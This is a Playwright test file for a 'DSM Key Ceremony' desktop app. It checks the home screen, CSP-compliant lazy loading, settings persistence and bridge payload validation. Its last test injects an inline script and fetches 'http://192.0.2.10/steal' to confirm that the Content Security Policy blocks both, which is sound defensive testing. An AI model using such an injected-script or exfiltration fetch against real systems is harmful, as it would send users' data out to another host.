import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { events, invokes } from '../../preload/contract'
import { expect, test } from './fixtures'

test('the home screen shows the app, its mode and its entry points', async ({ page, harness, networkLog }) => {
  await page.goto(harness.url)
  await expect(page.getByRole('heading', { name: 'DSM Key Ceremony' })).toBeVisible()
  await expect(page.getByTestId('mode-badge')).toHaveText(/^(NO PLAN OPEN|PRODUCTION|REHEARSAL)$/)
  await expect(page.getByRole('button', { name: 'Open ceremony plan…' })).toBeEnabled()
  await expect(page.getByRole('button', { name: 'Start a rehearsal' })).toBeEnabled()
  await expect(page.getByRole('button', { name: 'Write or edit a plan' })).toBeEnabled()
  await expect(page.getByText('Not yet available in this build.')).toHaveCount(0)
  await page.screenshot({ path: 'test-results/screens/home.png' })
  const origin = new URL(harness.url).origin
  expect(networkLog.filter((url) => !url.startsWith(origin))).toEqual([])
})

test('a screen not needed at start-up arrives from the app\'s own files when first opened, within the CSP', async ({ page, harness, networkLog }) => {
  // Chrome's words for a refused load ("…because it violates the following Content Security Policy directive").
  const violations: string[] = []
  page.on('console', (msg) => {
    if (/violates the following Content Security Policy/i.test(msg.text())) violations.push(msg.text())
  })
  const chunks: Array<{ url: string; status: number }> = []
  page.on('response', (response) => {
    if (/\/assets\/PlanEditorScreen-[\w-]+\.js$/.test(response.url())) chunks.push({ url: response.url(), status: response.status() })
  })
  await page.goto(harness.url)
  await expect(page.getByRole('button', { name: 'Write or edit a plan' })).toBeEnabled()
  expect(networkLog.filter((url) => url.includes('PlanEditorScreen'))).toEqual([])
  await page.getByRole('button', { name: 'Write or edit a plan' }).click()
  await expect(page.getByRole('heading', { name: 'Plan editor' })).toBeFocused()
  const origin = new URL(harness.url).origin
  expect(chunks).toHaveLength(1)
  expect(chunks[0]).toMatchObject({ status: 200 })
  expect(chunks[0]!.url.startsWith(`${origin}/assets/`)).toBe(true)
  expect(violations).toEqual([])
})

test('a settings change goes through the real main handler into the store file', async ({ page, harness }) => {
  await page.goto(harness.url)
  // Who takes part comes from the plan: the workstation settings are only how it looks.
  await expect(page.getByLabel('Operator name')).toHaveCount(0)
  // Controlled inputs: checked only once main has answered, so click and wait rather than .check(),
  // which gives up if the state has not changed the moment its click returns.
  await page.getByRole('radio', { name: '150%' }).click()
  await expect(page.getByRole('radio', { name: '150%' })).toBeChecked()
  await page.getByLabel('High contrast').click()
  await expect(page.getByLabel('High contrast')).toBeChecked()

  await expect.poll(() => JSON.parse(readFileSync(join(harness.userData, 'config.json'), 'utf8'))).toMatchObject({ textScale: 150, highContrast: true })

  // A fresh page reads it back from main.
  await page.reload()
  await expect(page.getByRole('radio', { name: '150%' })).toBeChecked()
  await expect(page.getByLabel('High contrast')).toBeChecked()
  await page.getByLabel('High contrast').click()
  await expect(page.getByLabel('High contrast')).not.toBeChecked()
})

test('the bridge rejects an off-contract payload with a named error', async ({ page, harness }) => {
  await page.goto(harness.url)
  const result = await page.evaluate(() => window.ceremony!.updateSettings({ textScale: 999 }))
  expect(result).toMatchObject({ ok: false, error: { code: 'INVALID_PAYLOAD' } })
  const extra = await page.evaluate(() => (window.ceremony!.updateSettings as (r: unknown) => Promise<unknown>)({ apiKey: 'x' }))
  expect(extra).toMatchObject({ ok: false, error: { code: 'INVALID_PAYLOAD' } })
  // Too large for any channel: refused by name before any schema, end to end through the bridge.
  const big = await page.evaluate(() => window.ceremony!.validatePlan({ text: 'x'.repeat(2_000_001) }))
  expect(big).toMatchObject({ ok: false, error: { code: 'PAYLOAD_TOO_LARGE' } })
  // The bridge exposes exactly the contract's names, and nothing to reach ipcRenderer.
  const keys = await page.evaluate(() => Object.keys(window.ceremony!).sort())
  expect(keys).toEqual(Object.keys({ ...invokes, ...events }).sort())
})

test('the CSP blocks an injected inline script and a fetch to a network address', async ({ page, harness }) => {
  const violations: string[] = []
  page.on('console', (msg) => {
    if (/Content Security Policy/i.test(msg.text())) violations.push(msg.text())
  })
  await page.goto(harness.url)
  await expect(page.getByTestId('mode-badge')).toBeVisible()

  const ran = await page.evaluate(async () => {
    const s = document.createElement('script')
    s.textContent = 'window.__injected = true'
    document.head.appendChild(s)
    await new Promise((r) => setTimeout(r, 50))
    return (window as unknown as { __injected?: boolean }).__injected === true
  })
  expect(ran).toBe(false)

  const fetched = await page.evaluate(async () => {
    try {
      await fetch('http://192.0.2.10/steal', { mode: 'no-cors' })
      return 'reached'
    } catch (err) {
      return String(err)
    }
  })
  expect(fetched).toMatch(/Failed to fetch|TypeError/)
  expect(violations.some((v) => v.includes('script'))).toBe(true)
  expect(violations.some((v) => v.includes('connect-src'))).toBe(true)
})
